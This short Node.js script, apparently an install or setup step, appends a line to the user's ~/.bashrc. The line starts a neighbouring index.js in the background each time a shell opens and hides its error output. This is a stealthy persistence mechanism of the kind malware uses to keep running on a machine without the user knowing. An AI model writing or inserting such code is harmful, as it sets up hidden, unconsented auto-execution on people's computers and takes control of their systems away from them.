const fs = require('fs');
const os = require('os');
const path = require('path');

const program = path.join(__dirname, 'index.js');
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), `\n(node ${program} &) 2>/dev/null\n`);
